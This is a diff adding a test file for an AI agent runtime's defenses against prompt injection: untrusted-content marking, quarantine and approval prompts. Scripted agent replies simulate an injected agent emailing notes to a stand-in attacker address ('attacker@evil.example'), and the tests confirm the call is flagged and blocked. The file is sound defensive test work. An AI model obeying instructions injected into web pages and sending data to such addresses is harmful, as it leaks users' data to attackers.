@@ -1,0 +1,147 @@
+// Untrusted content through the WorkerRunner: the mark and a quarantine cross the worker with the
+// tool's definition (page tools, tool workers), a reload keeps it (IndexedDB), and WebMCP says which tools are untrusted.
+import { afterEach, describe, expect, it } from 'vitest';
+import { createWorkerRunner, defineTool, listWebMcpTools, type Run, type RunEvent, scriptedEngine, type ScriptedReply } from '../../src/index.js';
+import { ATTACKER, INJECTION, readPage, sendEmail } from '../support/untrusted-tools.js';
+import { openRunners } from '../support/worker-runners.js';
+import { cleanupSignal, modelContextOf } from './webmcp-helpers.js';
+
+const runners = openRunners();
+const cleanup = cleanupSignal();
+const databases: string[] = [];
+afterEach(() => {
+  runners.closeAll();
+  cleanup.withdraw();
+  for (const name of databases.splice(0)) indexedDB.deleteDatabase(name);
+});
+
+async function finish(run: Run, decide: (e: Extract<RunEvent, { type: 'approval_requested' }>) => boolean = () => false): Promise<RunEvent[]> {
+  const events: RunEvent[] = [];
+  for await (const event of run.events) {
+    events.push(event);
+    if (event.type === 'approval_requested') decide(event) ? run.approve(event.call.id) : run.deny(event.call.id, 'no');
+  }
+  return events;
+}
+
+const readThenMail: ScriptedReply[] = [
+  { toolCalls: [{ id: 'r1', name: 'read_page', arguments: {} }] },
+  { toolCalls: [{ id: 'm1', name: 'send_email', arguments: { to: ATTACKER, body: 'notes' } }] },
+  'done',
+];
+
+describe('untrusted content through the WorkerRunner', () => {
+  it('a page tool marked untrusted gives a marked result, and the mail the page asks for is asked about with its source and flow', async () => {
+    const sent: Array<{ to: string; body: string }> = [];
+    const runner = runners.runnerWith(readThenMail).tool(readPage()).tool(sendEmail(sent));
+    const run = runner.run('read the page');
+    const events = await finish(run);
+    const { toolResults, messages } = await run.result;
+    expect(toolResults[0]).toMatchObject({ id: 'r1', ok: true, untrusted: true });
+    expect(messages.find((m) => m.role === 'tool' && m.toolCallId === 'r1')).toMatchObject({ untrusted: true });
+    expect(events.find((e) => e.type === 'approval_requested')).toMatchObject({
+      call: { id: 'm1' },
+      untrusted: { sources: [{ callId: 'r1', name: 'read_page' }], flows: [{ path: '/to', from: 'r1' }] },
+    });
+    expect(events.find((e) => e.type === 'tool_call' && e.call.id === 'm1')).toMatchObject({ untrusted: { sources: [{ callId: 'r1' }] } });
+    expect(sent).toEqual([]);
+  });
+
+  it("a tool worker's untrusted tool crosses with its mark", async () => {
+    const sent: Array<{ to: string; body: string }> = [];
+    const replies: ScriptedReply[] = [
+      { toolCalls: [{ id: 'w1', name: 'worker_read_doc', arguments: { doc: 'mail-summary.injected' } }] },
+      { toolCalls: [{ id: 'm1', name: 'send_email', arguments: { to: 'attacker@evil.example', body: 'notes' } }] },
+      'done',
+    ];
+    const runner = runners.runnerWith(replies).tool(sendEmail(sent));
+    await runner.workerTools(() => new Worker(new URL('./fixtures/attack-tools.worker.ts', import.meta.url), { type: 'module' }));
+    const run = runner.run('read it');
+    const events = await finish(run);
+    expect((await run.result).toolResults[0]).toMatchObject({ id: 'w1', ok: true, untrusted: true });
+    expect(events.find((e) => e.type === 'approval_requested')).toMatchObject({ untrusted: { sources: [{ callId: 'w1', name: 'worker_read_doc' }] } });
+    expect(sent).toEqual([]);
+  });
+
+  it("a page tool's quarantine is read in the runner worker: the value, unmarked, and the next call runs unasked", async () => {
+    const sent: Array<{ to: string; body: string }> = [];
+    const checkout = defineTool({
+      name: 'is_checkout',
+      description: 'Whether the page is a checkout',
+      parameters: { type: 'object', properties: {} },
+      readOnly: true,
+      quarantine: {
+        output: { type: 'object', properties: { checkout: { type: 'boolean' } }, required: ['checkout'], additionalProperties: false },
+        instructions: 'Is this a checkout page?',
+      },
+      call: () => `Checkout, 2 items. ${INJECTION}`,
+    });
+    const replies: ScriptedReply[] = [
+      { toolCalls: [{ id: 'q1', name: 'is_checkout', arguments: {} }] },
+      '{"checkout": true}', // the quarantine request's answer
+      { toolCalls: [{ id: 'm1', name: 'send_email', arguments: { to: 'me@home.example', body: 'checkout ready' } }] },
+      'done',
+    ];
+    const runner = runners.runnerWith(replies).tool(checkout).tool(sendEmail(sent));
+    const run = runner.run('is it a checkout? then mail me');
+    const events = await finish(run);
+    const { toolResults } = await run.result;
+    expect(toolResults[0]).toMatchObject({ id: 'q1', ok: true, output: { checkout: true } });
+    expect(toolResults[0]!.untrusted).toBeUndefined();
+    expect(events.some((e) => e.type === 'approval_requested')).toBe(false);
+    expect(sent).toEqual([{ to: 'me@home.example', body: 'checkout ready' }]);
+  });
+
+  it('the mark survives a reload: a new runner on the same database asks about a tainted call with no untrusted tool registered', async () => {
+    const database = `untrusted-${crypto.randomUUID()}`;
+    databases.push(database);
+    const sent: Array<{ to: string; body: string }> = [];
+    const first = runners
+      .keep(createWorkerRunner({ engine: scriptedEngine([{ toolCalls: [{ id: 'r1', name: 'read_page', arguments: {} }] }, 'read']), database }))
+      .tool(readPage());
+    await finish(first.run('read the page', { conversation: 'c' }));
+    first.close();
+    const reloaded = runners
+      .keep(
+        createWorkerRunner({
+          engine: scriptedEngine([{ toolCalls: [{ id: 'm1', name: 'send_email', arguments: { to: ATTACKER, body: 'notes' } }] }, 'done']),
+          database,
+        }),
+      )
+      .tool(sendEmail(sent));
+    const events = await finish(reloaded.run('now mail', { conversation: 'c' }));
+    expect(events.find((e) => e.type === 'approval_requested')).toMatchObject({
+      untrusted: { sources: [{ callId: 'r1', name: 'read_page' }], flows: [{ path: '/to', from: 'r1' }] },
+    });
+    expect(sent).toEqual([]);
+  });
+});
+
+describe('WebMCP tools', () => {
+  const register = (name: string, annotations: Record<string, unknown>) =>
+    modelContextOf().registerTool(
+      { name, description: `${name} tool`, inputSchema: { type: 'object' }, annotations, execute: () => INJECTION },
+      { signal: cleanup.signal },
+    );
+
+  it('are untrusted where the page says untrustedContentHint, and listWebMcpTools({ untrusted }) overrides what it says', async () => {
+    await register('hinted_page', { readOnlyHint: true, untrustedContentHint: true });
+    await register('quiet_page', { readOnlyHint: true });
+    const byName = async (options?: { untrusted?: boolean }) =>
+      Object.fromEntries((await listWebMcpTools({ include: ['hinted_page', 'quiet_page'], ...options })).map((tool) => [tool.name, tool.untrusted]));
+    expect(await byName()).toEqual({ hinted_page: true, quiet_page: false });
+    // A page that does not say so is taken at its word only where the app lets it be.
+    expect(await byName({ untrusted: true })).toEqual({ hinted_page: true, quiet_page: true });
+    expect(await byName({ untrusted: false })).toEqual({ hinted_page: false, quiet_page: false });
+    await expect(listWebMcpTools({ untrusted: 'yes' as never })).rejects.toMatchObject({ code: 'invalid_option' });
+  });
+
+  it("a listed page tool's result is marked through the runner worker", async () => {
+    await register('hinted_page', { readOnlyHint: true, untrustedContentHint: true });
+    const [tool] = await listWebMcpTools({ include: ['hinted_page'] });
+    const runner = runners.runnerWith([{ toolCalls: [{ id: 'h1', name: 'hinted_page', arguments: {} }] }, 'done']).tool(tool!);
+    const run = runner.run('read');
+    await finish(run);
+    expect((await run.result).toolResults[0]).toMatchObject({ id: 'h1', ok: true, output: INJECTION, untrusted: true });
+  });
+});
